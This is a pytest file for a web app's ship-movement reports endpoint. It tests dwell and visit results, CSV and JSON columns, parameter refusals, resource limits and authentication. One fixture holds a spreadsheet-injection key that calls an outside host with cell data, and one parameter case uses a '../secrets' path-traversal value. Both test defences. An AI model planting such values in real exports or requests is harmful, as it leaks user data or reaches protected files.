"""Reports over HTTP: who may ask, what is told, what is refused, and that nobody waits for one."""

import asyncio
import csv
import io
import json
import re
from pathlib import Path

import numpy as np
import pytest
import shapely
from asgiref.testing import ApplicationCommunicator
from channels.db import database_sync_to_async

from bench.live import PATIENCE_S
from streaming.elements import point_elements, stream_number
from streaming.history import HistoryWriter, Turn
from streaming.layers import LayerStore, feature_table
from streaming.reports import tables
from streaming.spaces import EARTH
from tests.history.test_tables import tracked
from tests.webapp.conftest import cookie_of, token_of
from webapp.models import Layer, Query, Stream
from webapp.questions.reports import asking
from webapp.rights import guards
from webapp.rights.fair import REPORTS

pytestmark = pytest.mark.django_db(transaction=True)

DOCUMENT = (Path(__file__).parents[2] / "docs" / "reports.md").read_text()
MINUTE = 60_000_000
BEGINNING = 1_795_219_200_000_000  # 2026-11-21 00:00 UTC
SPAN = {"from": "2026-11-21T00:00:00Z", "to": "2026-11-21T02:00:00Z"}
RING = [[10, 0], [14, 0], [14, 1], [10, 1]]
POLYGON = {"type": "Polygon", "coordinates": [[*RING, RING[0]]]}
# Ferry goes through the box 10, 0 to 14, 1 from minute 2 to minute 7; tug stays in it; wreck is elsewhere.
WAYS = {
    "ferry": [(0, 9.0), (4, 11.0), (8, 15.0)],
    "tug": [(minute, 12.0) for minute in range(0, 61, 5)],
    "wreck": [(0, 50.0), (5, 50.0)],
}


@pytest.fixture(autouse=True)
def fresh(monkeypatch, project, tmp_path):
    """Keep history and layers in folders of the test, and forget the tokens of other tests."""
    monkeypatch.setattr(guards, "_GUESSES", guards.Guesses())
    project.HISTORY_DIR, project.LAYERS_DIR = tmp_path / "history", tmp_path / "layers"


@pytest.fixture
def ships(streams, project):
    """A stream with the stored ways."""
    rows = [(key, BEGINNING + minute * MINUTE, lon) for key, way in WAYS.items() for minute, lon in way]
    keys, times, lons = zip(*rows, strict=True)
    made = point_elements("ships", keys, times, np.column_stack([lons, np.full(len(lons), 0.5)]), [{}] * len(rows))
    kept = HistoryWriter(project.HISTORY_DIR, EARTH)
    kept.store(Turn("e", 0, 1, 0, 0), [tracked(made)], {stream_number("buses"): "ships"})
    stream = Stream.objects.get(name="ships")
    stream.stored = True
    stream.save()
    return stream


@pytest.fixture
def ask(client, user, ships):
    """Return a function that asks for a report of the ships and returns the JSON document."""
    client.force_login(user)

    def asked(status=200, **given):
        response = client.get("/reports/ships", SPAN | {"gap_s": "600", "fastest_mps": "5000"} | given)
        assert response.status_code == status, response.content
        return response.json()

    return asked


def by_key(document):
    return {row["key"]: row for row in document["rows"]}


def test_who_was_in_a_box_when_and_how_long(ask):
    told = ask(bbox="10,0,14,1")
    ferry, tug = by_key(told)["ferry"], by_key(told)["tug"]
    assert [row["key"] for row in told["rows"]] == ["tug", "ferry"]  # the longest dwell first
    assert (ferry["first"], ferry["last"]) == ("2026-11-21T00:02:00.000000Z", "2026-11-21T00:07:00.000000Z")
    assert (ferry["dwell_s"], ferry["visits"], ferry["entries"], ferry["exits"]) == (300, 1, 1, 1)
    assert ferry["distance_m"] == pytest.approx(445_261, rel=1e-4)
    assert (tug["dwell_s"], tug["entries"], tug["exits"], tug["stops"], tug["stopped_s"]) == (3600, 0, 0, 1, 3600)
    assert told["counts"] == {"elements": 16, "repeated": 0, "unplaced": 0, "jumps": 0, "objects": 2}
    (day,) = told["days"]
    assert (day["day"], day["objects"], day["visits"], day["dwell_s"]) == ("2026-11-21", 2, 2, 3900)
    assert (told["total"], told["truncated"]) == (2, False)


def test_every_report_has_its_columns_as_json_and_as_csv_and_they_are_documented(ask, client):
    for report, columns in tables.COLUMNS.items():
        given = {"report": report, "bbox": "10,0,14,1", "key": "ferry" if report == "way" else ""}
        told = ask(**given)
        assert told["rows"] and list(told["rows"][0]) == list(columns)
        response = client.get("/reports/ships", SPAN | given | {"format": "csv", "gap_s": 600, "fastest_mps": 5000})
        assert response["Content-Disposition"] == f'attachment; filename="ships-{report}.csv"'
        rows = list(csv.DictReader(io.StringIO(response.content.decode())))
        assert len(rows) == told["total"]
        for name in columns:
            assert rows[0][name] == _text(told["rows"][0][name]), (report, name)
            assert f"`{name}`" in DOCUMENT, name
    for name in (*asking.FIELDS, *tables.TOTALS, *told["terms"], *told["counts"], *told):
        assert f"`{name}`" in DOCUMENT, name
    for name, value in (("REPORT_DAYS", 400), ("REPORT_ROWS", "10,000"), ("REPORT_CSV_ROWS", "1,000,000")):
        assert f"{value}" in DOCUMENT, name


@pytest.fixture
def formula(monkeypatch):
    """Let there be an object whose key a spreadsheet would run."""
    key = '=HYPERLINK("http://a/?"&A1;"Open")'
    monkeypatch.setitem(WAYS, key, [(0, 9.0), (4, 11.0), (8, 15.0)])
    return key


def test_a_key_that_a_feed_sent_as_a_formula_is_a_text_in_csv_and_itself_in_json(formula, ask, client):
    assert formula in {row["key"] for row in ask(bbox="10,0,14,1")["rows"]}
    response = client.get("/reports/ships", SPAN | {"bbox": "10,0,14,1", "format": "csv", "gap_s": 600})
    keys = {row["key"] for row in csv.DictReader(io.StringIO(response.content.decode()))}
    assert f"'{formula}" in keys and formula not in keys


def _text(value):
    return str(value).lower() if isinstance(value, bool) else str(value)


def test_visits_stops_and_days_are_told(ask):
    tug, ferry = sorted(ask(report="visits", bbox="10,0,14,1")["rows"], key=lambda row: row["begin"])
    assert (tug["began"], tug["ended"], tug["fixes"]) == ("first", "last", 13)
    assert (ferry["began"], ferry["ended"], ferry["fixes"]) == ("entry", "exit", 1)
    (stop,) = ask(report="stops")["rows"][:1]
    assert (stop["key"], stop["lon"], stop["lat"], stop["stopped_s"]) == ("tug", 12.0, 0.5, 3600)
    days = ask(report="days", zone="America/New_York", bbox="10,0,14,1")["rows"]
    assert [(row["day"], row["key"]) for row in days] == [("2026-11-20", "ferry"), ("2026-11-20", "tug")]
    way = ask(report="way", key="ferry", bbox="10,0,14,1")["rows"]
    assert [(row["lon"], row["inside"]) for row in way] == [(9.0, False), (11.0, True), (15.0, False)]


def test_the_area_is_that_of_a_polygon_a_query_or_a_feature(ask, ships, user, other, project):
    expected = ask(bbox="10,0,14,1")["rows"]
    assert ask(polygon=json.dumps(POLYGON))["rows"] == expected
    plan = {"stream": "ships", "compare": {"lo": [10, 0], "hi": [14, 1]}}
    mine = Query.objects.create(owner=user, name="a", plan=plan, stream="ships", space=ships.space)
    assert ask(query=mine.pk)["rows"] == expected
    plan = {"kind": "sketch", "stream": "ships", "polygon": RING}
    ring = Query.objects.create(owner=user, name="b", plan=plan, stream="ships", space=ships.space)
    assert ask(query=ring.pk)["rows"] == expected
    shaped = {"stream": "ships", "area": POLYGON}
    corridor = {"corridor": {"line": [[10.0, 0.5], [14.0, 0.5]], "width_m": 100_000}}
    soon = {"kind": "approach", "stream": "ships", "target": corridor, "within_s": 60}
    for name, plan in (("polygon", shaped), ("soon", soon)):
        query = Query.objects.create(owner=user, name=name, plan=plan, stream="ships", space=ships.space)
        assert [row["key"] for row in ask(query=query.pk)["rows"]] == [row["key"] for row in expected], name
    plan = {"stream": "ships", "around": {"key": "a", "radius": 1}}
    moving = Query.objects.create(owner=user, name="moves", plan=plan, stream="ships", space=ships.space)
    assert "stays where it is; got 'moves'" in ask(404, query=moving.pk)["error"]
    theirs = Query.objects.create(owner=other, name="c", plan=mine.plan, stream="ships", space=ships.space)
    assert "a query that you may see" in ask(404, query=theirs.pk)["error"]
    assert "a query that you may see" in ask(404, query="x")["error"]

    table = feature_table("ports", ["p", "quay"], [shapely.Polygon(RING), shapely.Point(1, 2)], [{}] * 2)
    version = LayerStore(project.LAYERS_DIR).write("ports", table)
    Layer.objects.create(name="ports", space_id="earth", version=version, status=Layer.READY, owner=user)
    assert ask(layer="ports", feature="p")["rows"] == expected
    assert "must be a Polygon or MultiPolygon; got Point" in ask(400, layer="ports", feature="quay")["error"]
    assert "key of a feature of layer 'ports'; got 'none'" in ask(404, layer="ports", feature="none")["error"]
    assert "name of a layer in earth; got 'quays'" in ask(404, layer="quays", feature="p")["error"]


@pytest.mark.parametrize(
    ("given", "rule"),
    [
        ({"from": ""}, "from must be a time in ISO 8601.*; got none"),
        ({"to": "soon"}, "must be ISO 8601.*got 'soon'"),
        ({"to": "2026-11-20T00:00:00Z"}, "from must not be after to"),
        ({"from": "2020-01-01T00:00:00Z"}, "at most 400 days; got 2,516.1"),
        ({"zone": "Mars/Olympus"}, "time zone.*got 'Mars/Olympus'"),
        ({"zone": "../secrets"}, "time zone.*got '../secrets'"),
        ({"bbox": "1,2,3"}, "bbox must be west,south,east,north"),
        ({"bbox": "1,2,3,95"}, "a box must be west,south,east,north"),
        ({"polygon": "{}"}, "Polygon or MultiPolygon; got None"),
        ({"bbox": "1,2,3,4", "polygon": "{}"}, "at most one of bbox, polygon, query, layer; got bbox, polygon"),
        ({"report": "ships"}, "report must be one of objects, visits, days, stops, way; got 'ships'"),
        ({"format": "xml"}, "format must be one of json, csv; got 'xml'"),
        ({"report": "way"}, "needs key"),
        ({"gap_s": "0"}, "gap_s must be a number from 0.001"),
        ({"stop_s": "nan"}, "stop_s must be a number from 0.001 to 86400; got 'nan'"),
        ({"colour": "red"}, "a report has the parameters.*; got colour"),
    ],
)
def test_what_breaks_a_rule_is_refused_with_rule_and_value(ask, given, rule):
    error = ask(400, **given)["error"]
    assert re.search(rule, error), error


def test_too_much_is_refused_or_cut_off_with_words(ask, project, client, other):
    project.REPORT_ROWS = 1
    told = ask(bbox="10,0,14,1")
    assert (len(told["rows"]), told["total"], told["truncated"]) == (1, 2, True)
    project.REPORT_CSV_ROWS = 1
    assert "at most 1 rows" in ask(400, bbox="10,0,14,1", format="csv")["error"]
    project.REPORT_ELEMENTS = 15
    assert "at most 15 elements: choose a shorter time or a smaller area; got more" in ask(400)["error"]
    project.REPORT_SCANNED = 17
    assert "at most 17 elements: choose fewer days; got 18" in ask(400)["error"]
    project.REPORT_WAIT_S, project.REPORTS_AT_ONCE = 0.01, 1
    with REPORTS.turn(other):
        assert "try again in a moment" in ask(503)["error"]


def test_a_report_that_takes_too_much_time_or_memory_is_refused_and_others_are_made(ask, project):
    project.REPORT_S = 0.0
    assert "must be answered within 0 s: ask for less" in ask(400)["error"]
    project.REPORT_S, project.WORK_MEMORY_BYTES = 120.0, 24 << 20  # not enough to load what it needs
    assert re.search("ask for less|must come to its end", ask(400)["error"])
    project.WORK_MEMORY_BYTES = 2 << 30
    assert ask()["total"] == 3


def test_a_report_is_for_users_by_session_or_token_and_of_streams_that_are_stored(client, user, ships):
    assert client.get("/reports/ships", SPAN).status_code == 401
    assert client.get("/reports/ships", SPAN, headers={"authorization": "Bearer wrong"}).status_code == 401
    secret = token_of(user)
    for scheme in ("Bearer", "Token"):
        response = client.get("/reports/ships", SPAN, headers={"authorization": f"{scheme} {secret}"})
        assert response.status_code == 200 and response.json()["total"] == 3
    client.force_login(user)
    assert client.post("/reports/ships", SPAN).status_code == 405
    for name in ("buses", "nothing"):
        response = client.get(f"/reports/{name}", SPAN)
        assert response.status_code == 404 and "whose elements are stored: ships; got" in response.json()["error"]


async def test_other_requests_are_answered_while_a_report_waits(ships, user, other, project):
    from webapp.asgi import application

    project.REPORTS_AT_ONCE = 1
    cookies = await database_sync_to_async(cookie_of)(user)
    query = "from=1795219200&to=1795226400"
    async with REPORTS.turn_later(other):
        report = asyncio.create_task(_get(application, "/reports/ships", query, cookies))
        await until(lambda: REPORTS._waiting)
        status, _ = await _get(application, "/livez", "", [(b"host", b"localhost")])
        assert status == 200 and not report.done()
    status, body = await report
    assert status == 200 and json.loads(body)["terms"]["from_us"] == BEGINNING


async def until(condition):
    async with asyncio.timeout(PATIENCE_S):
        while not condition():
            await asyncio.sleep(0.01)


async def _get(application, path, query, headers):
    """Return status and body of a request."""
    scope = {"type": "http", "method": "GET", "path": path, "query_string": query.encode(), "headers": headers}
    scope |= {"http_version": "1.1", "scheme": "http", "client": ("127.0.0.1", 1)}
    connection = ApplicationCommunicator(application, scope)
    await connection.send_input({"type": "http.request", "body": b""})
    start = await connection.receive_output(PATIENCE_S)
    body = await connection.receive_output(PATIENCE_S)
    await connection.wait(PATIENCE_S)
    return start["status"], body["body"]
